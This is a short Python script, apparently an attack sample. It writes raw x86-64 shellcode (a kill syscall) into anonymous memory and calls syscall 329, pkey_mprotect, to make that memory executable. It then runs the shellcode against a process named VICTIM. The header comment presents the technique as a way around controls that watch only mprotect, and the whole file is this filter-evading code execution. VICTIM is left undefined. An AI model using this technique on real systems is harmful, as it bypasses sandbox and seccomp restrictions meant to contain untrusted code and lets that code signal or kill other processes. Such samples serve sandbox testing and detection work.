# Turns memory executable with pkey_mprotect, the forgotten twin of mprotect.
# Machine: x86-64
import ctypes
import mmap
import os

libc = ctypes.CDLL(None, use_errno=True)
memory = mmap.mmap(-1, 4096)
memory.write(b"\xb8\x3e\x00\x00\x00\x0f\x05\xc3")  # mov eax, 62 (kill); syscall; ret
address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
if libc.syscall(329, ctypes.c_void_p(address), ctypes.c_size_t(4096), 5, -1) != 0:
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int)(address)(VICTIM, 10)
